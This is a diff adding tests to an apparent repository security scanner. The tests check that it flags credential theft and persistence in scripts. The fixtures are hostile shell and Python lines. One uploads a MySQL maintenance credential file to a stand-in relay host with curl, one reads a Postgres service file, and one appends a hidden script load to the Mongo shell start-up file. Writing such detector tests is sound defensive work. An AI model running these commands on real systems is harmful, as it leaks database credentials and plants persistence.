@@ -282,3 +282,26 @@ def test_a_local_include_and_extends_stay_quiet(tmp_path: Path) -> None:
         "services:\n  web:\n    extends:\n      file: common.yml\n      service: base\n    image: nginx:1.27\n"
     )
     assert scan_findings(tmp_path, {"compose.yaml": compose}) == []
+
+
+# --- client-side stores -------------------------------------------------------------------------
+
+
+def test_the_debian_maintenance_password_file_sent_out(tmp_path: Path) -> None:
+    source = "#!/bin/sh\ncurl -s -F c=@/etc/mysql/debian.cnf https://relay.example.invalid/u\n"
+    errors = scan_errors(tmp_path, {"scripts/check.sh": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/check.sh", 2) in errors
+
+
+def test_a_pg_service_file_read_alone_is_a_warning(tmp_path: Path) -> None:
+    source = (
+        "import configparser, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pg_service.conf'))\n"
+    )
+    findings = scan_findings(tmp_path, {"scripts/svc.py": source})
+    assert [f.severity.value for f in findings if f.rule == "CREDENTIAL_EXFILTRATION"] == ["warning"]
+
+
+def test_a_command_appended_to_the_mongo_shell_start_up_file_persists(tmp_path: Path) -> None:
+    source = "#!/bin/sh\necho 'load(\"/tmp/.m.js\")' >> ~/.mongoshrc.js\n"
+    found = analyse_file(tmp_path, "scripts/setup.sh", source, Language.SHELL)
+    assert any(c.kind is Kind.PERSISTENCE and "database shell" in c.detail for c in found)
